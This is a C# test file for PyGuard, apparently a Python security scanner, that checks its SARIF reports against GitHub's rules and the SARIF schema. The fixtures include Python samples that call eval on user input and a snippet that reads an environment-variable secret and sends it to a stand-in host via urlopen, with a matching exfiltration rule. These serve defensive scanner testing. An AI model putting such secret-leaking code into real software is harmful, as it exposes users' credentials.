using System.Text;
using PyGuard.Engine.Model;
using PyGuard.Engine.Policies;
using PyGuard.Cli.Output;
using PyGuard.Reporting.Sarif;

namespace PyGuard.Cli.Tests.Sarif;

/// <summary>
/// SARIF that PyGuard writes is accepted by the SARIF multitool with GitHub's rules and by the SARIF 2.1.0
/// JSON schema: for the whole corpus under both policies, and for a log that uses every feature (code
/// flows, suppressions, notifications, standard input, baseline states, non-ASCII paths).
/// </summary>
public sealed class SarifValidationTests : IDisposable
{
    private readonly string _directory = Directory.CreateTempSubdirectory("pyguard-sarif-validation-").FullName;

    public void Dispose() => Directory.Delete(_directory, recursive: true);

    [Theory]
    [InlineData("agent")]
    [InlineData("audit")]
    public void The_corpus_scan_is_valid_sarif_for_github(string policy)
    {
        var validators = SarifValidators.Require();
        var output = Path.Combine(_directory, $"corpus-{policy}.sarif");
        var (exit, _, stderr) = PyGuardProcess.Run(PyGuardProcess.RepositoryRoot(), "scan", "corpus", "--policy", policy, "--format", "sarif", "--output", output, "--no-progress");
        (exit, stderr).ShouldBe((1, string.Empty));
        validators.Problems(output).ShouldBeEmpty();
    }

    [Fact]
    public void A_log_using_every_feature_is_valid_sarif_for_github()
    {
        var validators = SarifValidators.Require();
        var withoutBaseline = WriteEveryFeature("every-feature.sarif", null);
        validators.Problems(withoutBaseline).ShouldBeEmpty();
        var withBaseline = WriteEveryFeature("every-feature-baseline.sarif", SarifBaseline.Parse(Encoding.UTF8.GetBytes("{\"version\": \"2.1.0\", \"runs\": []}")));
        validators.Problems(withBaseline).ShouldBeEmpty();
    }

    [Fact]
    public void The_validators_do_reject_invalid_sarif()
    {
        var validators = SarifValidators.Require();
        var valid = WriteEveryFeature("valid.sarif", null);
        var invalid = Path.Combine(_directory, "invalid.sarif");
        File.WriteAllText(invalid, File.ReadAllText(valid).Replace("\"startColumn\":", "\"startColumn\":-"));
        var problems = validators.Problems(invalid);
        problems.ShouldContain(p => p.Contains(": error ", StringComparison.Ordinal));
        problems.ShouldContain(p => p.StartsWith("ajv: ", StringComparison.Ordinal));
    }

    /// <summary>Real scans (audit policy: suppressions honoured) plus a constructed taint finding, written through the public API.</summary>
    private string WriteEveryFeature(string name, SarifBaseline? baseline)
    {
        var root = Path.Combine(_directory, "project");
        var sources = new SourceLineCache();
        var scanner = new PythonScanner(Policy.Audit);
        var files = new List<FileScanResult>
        {
            Scan(scanner, root, "dir with spaces/café 😀.py", "s = '😀😀'; eval(s)\nimport subprocess\n"),
            Scan(scanner, root, "suppressed.py", "x = input()\neval(x)  # pyguard: ignore[PG201]\n"),
            Scan(scanner, root, "broken.py", "def f(:\n    pass\n"),
            Scan(scanner, _directory, "outside.py", "import ctypes\n"),
        };

        const string Leak = "import os, urllib.request\nkey = os.environ['KEY']\nurllib.request.urlopen('https://x.example/?k=' + key)\n";
        sources.AddStandardInput(Encoding.UTF8.GetBytes(Leak));
        var rule = new RuleDescriptor("PG699", "Secret sent over the network", "{0}", RuleCategory.Exfil, Severity.Error, Confidence.Medium, 8.0, [200],
            new RuleHelp("Reports a secret that reaches a network call.", "It leaves the machine.", "urlopen(url + key)", "Keep secrets local."));
        var taint = new Finding(rule, Severity.Error, Confidence.Medium, "secret sent over the network", new SourceLocation(3, 1, 3, 54))
        {
            Flow = [new FlowStep(new SourceLocation(2, 7, 2, 24), "read from os.environ"), new FlowStep(new SourceLocation(3, 24, 3, 53), "sent by urlopen")],
        };
        files.Add(new FileScanResult("<stdin>", Verdict.Block, 95, [taint]));

        var output = Path.Combine(_directory, name);
        using var stream = File.Create(output);
        SarifReport.Write(new ScanReport([.. files]), new SarifReportOptions
        {
            Rules = scanner.Rules,
            Sources = sources,
            RootDirectory = root,
            PolicyName = scanner.Policy.Name,
            Baseline = baseline,
        }, stream);
        return output;
    }

    private static FileScanResult Scan(PythonScanner scanner, string directory, string name, string code)
    {
        var path = Path.Combine(directory, name);
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, code, new UTF8Encoding(false));
        return scanner.ScanFile(path);
    }
}
